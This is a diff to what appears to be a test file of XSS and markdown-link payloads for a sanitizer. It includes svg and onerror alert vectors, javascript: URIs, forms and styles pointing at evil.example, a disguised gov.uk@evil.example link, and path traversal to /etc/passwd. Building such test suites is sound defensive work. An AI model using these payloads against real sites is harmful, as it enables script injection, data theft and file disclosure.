@@ -63,11 +63,15 @@ _TAGS = {
     "drawing with a slash": "<svg/onload=alert(1)>",
     "drawing with a script": "<svg><script>alert(1)</script></svg>",
     "drawing with an entity in its script": "<svg><script>&#97;lert(1)</script></svg>",
-    "drawing that animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
+    "drawing that animates a link": (
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>"
+    ),
     "drawing with a foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
     "drawing that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
     "formula": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
-    "formula with a nested style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "formula with a nested style": (
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
+    ),
     "body": "<body onload=alert(1)>",
     "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
     "video": "<video><source onerror=alert(1)></video>",
@@ -78,7 +82,7 @@ _TAGS = {
     "text area with focus": "<textarea autofocus onfocus=alert(1)></textarea>",
     "button": "<button onclick=alert(1)>Press</button>",
     "form": '<form action="javascript:alert(1)"><button>Send</button></form>',
-    "form to another site": '<form action="https://evil.example/"><input name="nhs-number"><button>Send</button></form>',
+    "form to another site": '<form action="https://evil.example/"><input name="nhs"><button>Send</button></form>',
     "field that sends elsewhere": '<input type=image src=x formaction="javascript:alert(1)">',
     "frame": '<iframe src="javascript:alert(1)"></iframe>',
     "frame of another site": '<iframe src="https://evil.example/"></iframe>',
@@ -90,7 +94,7 @@ _TAGS = {
     "link to a style": '<link rel="stylesheet" href="https://evil.example/x.css">',
     "style": "<style>@import 'https://evil.example/x.css';</style>",
     "style of a tag": '<p style="background:url(https://evil.example/x.png)">x</p>',
-    "template": '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
+    "template with a shadow": '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
     "no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     "plain text": "<plaintext>",
     "text area that swallows": "</textarea><script>alert(1)</script>",
@@ -189,6 +193,7 @@ _DESTINATIONS = {
     "picture of another site with code in it": "![x](htt`ps`://evil.example/t.gif)",
     "picture from the disk": "![x](file:///c:/windows/win.ini)",
     "site without scheme": "[x](//evil.example/)",
+    "site behind another's name": "[x](https://www.gov.uk@evil.example/)",
     "path out of the account": "[x](../../../etc/passwd)",
     "path out of the account in capitals of %": "[x](%2e%2e/%2E%2E/secret.md)",
     "path out of the account with % twice": "[x](%252e%252e/secret.md)",
